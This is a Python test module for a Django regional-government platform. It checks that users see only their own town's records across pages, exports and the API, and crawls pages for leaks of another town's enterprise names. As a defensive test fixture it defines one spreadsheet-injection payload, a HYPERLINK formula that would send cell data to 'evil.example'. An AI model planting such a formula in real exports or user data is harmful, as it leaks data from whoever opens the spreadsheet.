"""Scope tests are inherited, not remembered (STYLE.md §3).

A model's tests subclass ``ViewScopeSuite`` and/or ``ApiScopeSuite`` and say how to make an
object in a region; every rule of scope is then tested for it: anonymous → login / 401, a role
without the action → 403, own town → 200, other town → 404, never listed or exported, and a
refused write changes nothing. Each named scope rule (core/querysets.py) is tested too, both
ways: a peer region's object and the county's own object are readable by a town officer
exactly when the model's queryset names the rule that lets them through, and never writable;
and two departments' users see a town's object only when the model names
``assigned_to_my_department`` and the object is brought to their own department (``assign``).
``test_every_business_model_has_scope_suites`` fails for a model without a suite.
"""

import io
import json
import re
from dataclasses import dataclass, field
from types import SimpleNamespace

import pytest
from django.urls import reverse

SUITES: dict[str, set] = {"view": set(), "api": set()}


def _snapshot(obj):
    return type(obj)._base_manager.filter(pk=obj.pk).values().get()


def peer_region():
    """A region read from a peer's published report (对标地区), outside the installation's tree."""
    from mujun.regions.choices import Kind, Level
    from mujun.regions.models import Region

    return Region.objects.get_or_create(
        code="360302",
        defaults={"name": "萍乡经开区", "level": Level.TOWN, "kind": Kind.ZONE, "is_peer": True},
    )[0]


def _rules(model) -> set[str]:
    return {rule.name for rule in model.objects.all().scope_rules}


def _readable(rule: str, model) -> bool:
    return rule in _rules(model)


class _Registered:
    model = None
    kind = ""

    def __init_subclass__(cls, **kwargs):
        super().__init_subclass__(**kwargs)
        if cls.model is not None:
            SUITES[cls.kind].add(cls.model)


@pytest.mark.django_db
class ViewScopeSuite(_Registered):
    kind = "view"
    # URL names taking the object's pk, opened with GET by a viewer
    view_urls: tuple[str, ...] = ()
    # URL names taking the pk whose GET shows a form that changes the object
    change_urls: tuple[str, ...] = ()
    # the list page (its rows and its export must hide other towns)
    list_url: str | None = None
    # a POST to change the object: (url name, data builder)
    post_url: str | None = None

    def make(self, region):  # pragma: no cover - every suite defines it
        raise NotImplementedError

    def assign(self, obj, department):  # pragma: no cover - suites of models naming the rule
        """Bring ``obj`` to ``department`` (a problem escalated to it, an enterprise with such
        a problem): the suites of models that name ``assigned_to_my_department`` define it."""
        raise NotImplementedError

    def post_data(self, obj) -> dict:
        return {}

    def marker(self, obj) -> str:
        """Text that shows the object is listed."""
        return str(obj)

    def test_anonymous_is_sent_to_login(self, client, cast):
        obj = self.make(cast.regions.town1)
        for name in (*self.view_urls, *self.change_urls):
            response = client.get(reverse(name, args=[obj.pk]))
            assert response.status_code == 302 and "/accounts/login/" in response["Location"]

    def test_own_town_opens(self, login, cast):
        obj = self.make(cast.regions.town1)
        client = login(cast.town1)
        for name in (*self.view_urls, *self.change_urls):
            assert client.get(reverse(name, args=[obj.pk])).status_code == 200, name

    def test_other_town_gets_404(self, login, cast):
        obj = self.make(cast.regions.town2)
        client = login(cast.town1)
        for name in (*self.view_urls, *self.change_urls):
            assert client.get(reverse(name, args=[obj.pk])).status_code == 404, name

    def test_county_user_sees_every_town(self, login, cast):
        obj = self.make(cast.regions.town2)
        client = login(cast.leader)
        for name in self.view_urls:
            assert client.get(reverse(name, args=[obj.pk])).status_code == 200, name

    def test_user_without_region_sees_nothing(self, login, cast):
        obj = self.make(cast.regions.town1)
        client = login(cast.no_region)
        for name in self.view_urls:
            assert client.get(reverse(name, args=[obj.pk])).status_code == 404, name

    def test_viewer_gets_403_on_forms(self, login, cast):
        obj = self.make(cast.regions.town1)
        client = login(cast.viewer)
        for name in self.change_urls:
            assert client.get(reverse(name, args=[obj.pk])).status_code == 403, name

    def test_a_peer_regions_object_follows_the_peer_rule(self, login, cast):
        obj = self.make(peer_region())
        client = login(cast.town1)
        expected = 200 if _readable("peer_regions_readable", self.model) else 404
        for name in self.view_urls:
            assert client.get(reverse(name, args=[obj.pk])).status_code == expected, name
        for name in self.change_urls:
            assert client.get(reverse(name, args=[obj.pk])).status_code == 404, name

    def test_the_countys_object_follows_the_parent_rule(self, login, cast):
        obj = self.make(cast.regions.county)
        client = login(cast.town1)
        expected = 200 if _readable("parent_regions_readable", self.model) else 404
        for name in self.view_urls:
            assert client.get(reverse(name, args=[obj.pk])).status_code == expected, name
        for name in self.change_urls:
            assert client.get(reverse(name, args=[obj.pk])).status_code == 404, name

    def test_list_and_export_hide_other_towns(self, login, cast):
        if not self.list_url:
            pytest.skip("no list page")
        mine = self.make(cast.regions.town1)
        theirs = self.make(cast.regions.town2)
        client = login(cast.town1)
        page = client.get(reverse(self.list_url)).content.decode()
        assert self.marker(mine) in page
        assert self.marker(theirs) not in page
        export = client.get(reverse(self.list_url) + "?export=xlsx")
        assert export.status_code == 200
        from mujun.core.spreadsheets import read_rows

        cells = {c for row in read_rows("x.xlsx", export.getvalue()) for c in row}
        assert self.marker(mine) in cells
        assert self.marker(theirs) not in cells

    def test_departments_follow_the_department_rule(self, login, cast, depts):
        obj = self.make(cast.regions.town1)
        named = _readable("assigned_to_my_department", self.model)
        if named:
            self.assign(obj, depts.one)
        for user, expected in ((depts.user1, 200 if named else 404), (depts.user2, 404)):
            client = login(user)
            for name in self.view_urls:
                assert client.get(reverse(name, args=[obj.pk])).status_code == expected, name
            for name in self.change_urls:
                assert client.get(reverse(name, args=[obj.pk])).status_code in (403, 404), name
            if self.list_url:
                page = client.get(reverse(self.list_url)).content.decode()
                assert (self.marker(obj) in page) == (expected == 200), self.list_url
        if self.post_url:
            before = _snapshot(obj)
            response = login(depts.user1).post(
                reverse(self.post_url, args=[obj.pk]), self.post_data(obj)
            )
            assert response.status_code in (403, 404) and _snapshot(obj) == before

    def test_refused_writes_change_nothing(self, login, cast):
        if not self.post_url:
            pytest.skip("no write url")
        theirs = self.make(cast.regions.town2)
        before = _snapshot(theirs)
        for user, status in ((cast.town1, 404), (cast.viewer, 403)):
            response = login(user).post(
                reverse(self.post_url, args=[theirs.pk]), self.post_data(theirs)
            )
            assert response.status_code == status
            assert _snapshot(theirs) == before


@pytest.mark.django_db
class ApiScopeSuite(_Registered):
    kind = "api"
    base: str = ""  # e.g. "/api/enterprises"
    # whether ``{base}/{id}`` answers PATCH (a run is never patched: its verbs are POSTs)
    patchable = True

    def make(self, region):  # pragma: no cover
        raise NotImplementedError

    def patch_data(self, obj) -> dict:
        return {"version": obj.version}

    def assign(self, obj, department):  # pragma: no cover - suites of models naming the rule
        raise NotImplementedError

    def test_departments_follow_the_department_rule(self, client, cast, depts):
        obj = self.make(cast.regions.town1)
        named = _readable("assigned_to_my_department", self.model)
        if named:
            self.assign(obj, depts.one)
        for user, expected in ((depts.user1, 200 if named else 404), (depts.user2, 404)):
            headers = self.token_for(client, user)
            assert client.get(f"{self.base}/{obj.pk}", **headers).status_code == expected
            ids = {item["id"] for item in client.get(self.base, **headers).json()["items"]}
            assert (obj.pk in ids) == (expected == 200)
        if self.patchable:
            before = _snapshot(obj)
            response = client.patch(
                f"{self.base}/{obj.pk}",
                self.patch_data(obj),
                content_type="application/json",
                **self.token_for(client, depts.user1),
            )
            assert response.status_code in (403, 404) and _snapshot(obj) == before

    def token_for(self, client, user):
        from mujun.accounts.models import ApiToken

        return {"HTTP_AUTHORIZATION": f"Bearer {ApiToken.issue(user)}"}

    def test_anonymous_gets_401(self, client, cast):
        obj = self.make(cast.regions.town1)
        assert client.get(self.base).status_code == 401
        assert client.get(f"{self.base}/{obj.pk}").status_code == 401

    def test_other_town_gets_404(self, client, cast):
        obj = self.make(cast.regions.town2)
        headers = self.token_for(client, cast.town1)
        assert client.get(f"{self.base}/{obj.pk}", **headers).status_code == 404

    def test_own_town_gets_200(self, client, cast):
        obj = self.make(cast.regions.town1)
        headers = self.token_for(client, cast.town1)
        assert client.get(f"{self.base}/{obj.pk}", **headers).status_code == 200

    def test_list_hides_other_towns(self, client, cast):
        mine = self.make(cast.regions.town1)
        theirs = self.make(cast.regions.town2)
        headers = self.token_for(client, cast.town1)
        ids = {item["id"] for item in client.get(self.base, **headers).json()["items"]}
        assert mine.pk in ids and theirs.pk not in ids

    def test_peer_and_county_objects_follow_their_rules(self, client, cast):
        headers = self.token_for(client, cast.town1)
        for region, rule in (
            (peer_region(), "peer_regions_readable"),
            (cast.regions.county, "parent_regions_readable"),
        ):
            obj = self.make(region)
            expected = 200 if _readable(rule, self.model) else 404
            assert client.get(f"{self.base}/{obj.pk}", **headers).status_code == expected, rule
            if not self.patchable:
                continue
            before = _snapshot(obj)
            response = client.patch(
                f"{self.base}/{obj.pk}",
                self.patch_data(obj),
                content_type="application/json",
                **headers,
            )
            # refused by scope (404) or, where the role may not write at all, by role (403)
            assert response.status_code in (403, 404), f"PATCH {rule}"
            assert _snapshot(obj) == before

    def test_refused_patch_changes_nothing(self, client, cast):
        if not self.patchable:
            pytest.skip("no PATCH")
        theirs = self.make(cast.regions.town2)
        before = _snapshot(theirs)
        for user, status in ((cast.town1, 404), (cast.viewer, 403)):
            response = client.patch(
                f"{self.base}/{theirs.pk}",
                self.patch_data(theirs),
                content_type="application/json",
                **self.token_for(client, user),
            )
            assert response.status_code == status
            assert _snapshot(theirs) == before


# --- No other town's enterprise on any page (issue 21, item 1) ------------------------------

# A name a spreadsheet would read as a formula: every export writes it as text.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
# Pages never followed: leaving, switching language, the management site, static files.
_SKIP_PREFIXES = ("/accounts/logout", "/i18n/", "/admin/", "/static/", "/api/docs")
_LINK = re.compile(r'(?:href|hx-get|data-url)="([/?][^"#]*)')
ANSWERS = {200, 302, 400, 403, 404, 405, 422}


@dataclass
class Crawl:
    """What a crawl read as one user: every text, by URL, and what it found in exports."""

    texts: dict = field(default_factory=dict)
    formula_cells: list = field(default_factory=list)
    quoted_formula_names: int = 0


def response_text(response, crawl: Crawl, url: str) -> str:
    """The text a user reads in ``response``: a page, JSON, or the cells and paragraphs of an
    .xlsx or a .docx download (whose formula cells are noted in ``crawl``)."""
    kind = response.get("Content-Type", "")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if "spreadsheetml" in kind:
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(content))
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        crawl.formula_cells.append((url, cell.coordinate, cell.value))
                    if cell.value == FORMULA_NAME and cell.quotePrefix:
                        crawl.quoted_formula_names += 1
                    cells.append("" if cell.value is None else str(cell.value))
        return "\n".join(cells)
    if "wordprocessingml" in kind:
        from docx import Document

        document = Document(io.BytesIO(content))
        parts = [p.text for p in document.paragraphs]
        parts += [c.text for t in document.tables for row in t.rows for c in row.cells]
        return "\n".join(parts)
    if "json" in kind:
        # The API writes non-ASCII as \uXXXX escapes: decoded, a name reads as the user reads it.
        return json.dumps(json.loads(content), ensure_ascii=False)
    return content.decode("utf-8", errors="replace")


@pytest.mark.django_db
class ForeignNamesSuite:
    """Renders every page, export and API answer of an area for an officer of each of two
    towns and finds no name or code of the other town's enterprises anywhere: lists, details,
    histories, timelines, notes, charts, downloads (issue 21, item 1).

    A subclass names its ``area`` (the URL namespace), its API's ``api_prefix``, and
    ``populate(cast, enterprises)``, which makes the area's objects around each enterprise
    (each in its own town; objects of a county-level region, such as a run, take all of
    them). The crawl opens every URL of the area with no argument (a list with
    ``?export=xlsx`` too), every URL taking a ``pk`` for every row of its view's model, every
    GET of the area's API with its path parameters from ``api_params()``, and every link
    found on those pages that stays in the area. Any answer outside ``ANSWERS`` (a 500) fails
    too, and no exported cell is a formula.
    ``test_every_area_has_a_foreign_names_suite`` fails for an area without one."""

    area: str = ""
    api_prefix: str = ""
    # whether the area's pages show enterprise names at all (the check that the crawl saw
    # the own town's enterprise)
    shows_enterprises = True
    # whether one of its exports lists enterprise names (the check that formula-like names
    # are written as text)
    exports_enterprises = False
    max_pages = 400

    def __init_subclass__(cls, **kwargs):
        super().__init_subclass__(**kwargs)
        if cls.area:
            NAMES_SUITES.add(cls.area)

    def populate(self, cast, enterprises):  # pragma: no cover - every suite defines it
        raise NotImplementedError

    def api_params(self) -> dict[str, list]:
        """Values for the API's path parameters, by name (``{"project_id": [1, 2]}``)."""
        return {}

    @pytest.fixture
    def scene(self, cast):
        from mujun.enterprises.testing import make_enterprise, new_uscc

        mine = make_enterprise(
            cast.regions.town1, name="城关街道甲测企业有限公司", uscc=new_uscc(), above_size=True
        )
        formula = make_enterprise(
            cast.regions.town1, name=FORMULA_NAME, uscc=new_uscc(), above_size=True
        )
        theirs = make_enterprise(
            cast.regions.town2, name="东岭镇乙测企业有限公司", uscc=new_uscc(), above_size=True
        )
        self.populate(cast, [mine, formula, theirs])
        return SimpleNamespace(mine=mine, formula=formula, theirs=theirs)

    def _start_urls(self) -> list[str]:
        from django.urls import get_resolver

        from mujun.core.views import ObjectListView

        resolver = get_resolver()
        urls = []
        namespace = resolver.namespace_dict[self.area][1]
        prefix = resolver.namespace_dict[self.area][0]
        for pattern in namespace.url_patterns:
            view = getattr(pattern.callback, "view_class", None)
            converters = pattern.pattern.converters
            if not converters:
                url = "/" + prefix + str(pattern.pattern)
                urls.append(url)
                if view is not None and issubclass(view, ObjectListView):
                    # the export, and a search that both towns' enterprises would match
                    urls += [url + "?export=xlsx", url + "?q=%E6%B5%8B%E4%BC%81%E4%B8%9A"]
            elif set(converters) == {"pk"} and getattr(view, "model", None) is not None:
                # (a list of one object's rows, a run's results, is reached by its links)
                for pk in view.model._base_manager.values_list("pk", flat=True)[:50]:
                    url = reverse(f"{self.area}:{pattern.name}", args=[pk])
                    urls.append(url)
                    if issubclass(view, ObjectListView):
                        urls.append(url + "?export=xlsx")
        return urls

    def _api_urls(self) -> list[str]:
        if not self.api_prefix:
            return []
        from itertools import product

        from mujun.api import api

        schema = api.get_openapi_schema()
        params = self.api_params()
        urls = []
        for path, operations in schema["paths"].items():
            if not path.startswith(self.api_prefix) or "get" not in operations:
                continue
            names = re.findall(r"{(\w+)}", path)
            missing = [n for n in names if n not in params]
            assert not missing, f"{path}: api_params() gives no values for {missing}"
            for values in product(*(params[n] for n in names)):
                url = path
                for name, value in zip(names, values, strict=True):
                    url = url.replace("{" + name + "}", str(value))
                urls.append(url)
        return urls

    def _in_area(self, url: str) -> bool:
        if url.startswith(_SKIP_PREFIXES):
            return False
        from django.urls import Resolver404, resolve

        if self.api_prefix and url.startswith(self.api_prefix):
            return True
        try:
            match = resolve(url.split("?")[0])
        except Resolver404:
            return False
        return match.namespace == self.area

    def crawl(self, client) -> Crawl:
        from html import unescape

        crawl = Crawl()
        queue = [*self._start_urls(), *self._api_urls()]
        seen = set()
        while queue and len(seen) < self.max_pages:
            url = queue.pop(0)
            if url in seen:
                continue
            seen.add(url)
            response = client.get(url)
            assert response.status_code in ANSWERS, f"GET {url} → {response.status_code}"
            if response.status_code != 200:
                continue
            text = response_text(response, crawl, url)
            crawl.texts[url] = text
            if "text/html" in response.get("Content-Type", ""):
                for link in _LINK.findall(text):
                    link = unescape(link)
                    if link.startswith("?"):  # the export of the page's own list
                        link = url.split("?")[0] + link
                    if link not in seen and self._in_area(link):
                        queue.append(link)
        return crawl

    def _markers(self, *enterprises) -> list[str]:
        from html import escape

        out = []
        for e in enterprises:
            out += [e.name, escape(e.name), e.uscc]
        return out

    def _assert_absent(self, crawl: Crawl, markers: list[str], who: str):
        leaks = [
            (url, marker)
            for url, text in crawl.texts.items()
            for marker in markers
            if marker in text
        ]
        assert not leaks, f"{who} reads another town's enterprise: {leaks[:5]}"

    def test_no_page_names_another_towns_enterprise(self, login, cast, scene):
        from django.test import Client

        town1 = self.crawl(login(cast.town1))
        assert len(town1.texts) >= 2
        self._assert_absent(town1, self._markers(scene.theirs), "town1")
        if self.shows_enterprises:
            assert any(scene.mine.name in text for text in town1.texts.values())
        assert not town1.formula_cells, town1.formula_cells[:5]
        if self.exports_enterprises:
            assert town1.quoted_formula_names, "no export listed the formula-like name as text"

        other = Client()
        other.force_login(cast.town2)
        town2 = self.crawl(other)
        self._assert_absent(town2, self._markers(scene.mine, scene.formula), "town2")
        if self.shows_enterprises:
            assert any(scene.theirs.name in text for text in town2.texts.values())
        assert not town2.formula_cells, town2.formula_cells[:5]


NAMES_SUITES: set[str] = set()


def areas() -> set[str]:
    """The URL namespaces of the platform's areas (the apps whose pages show business data)."""
    from django.urls import get_resolver

    return set(get_resolver().namespace_dict) - {"core", "accounts", "admin", "api"}
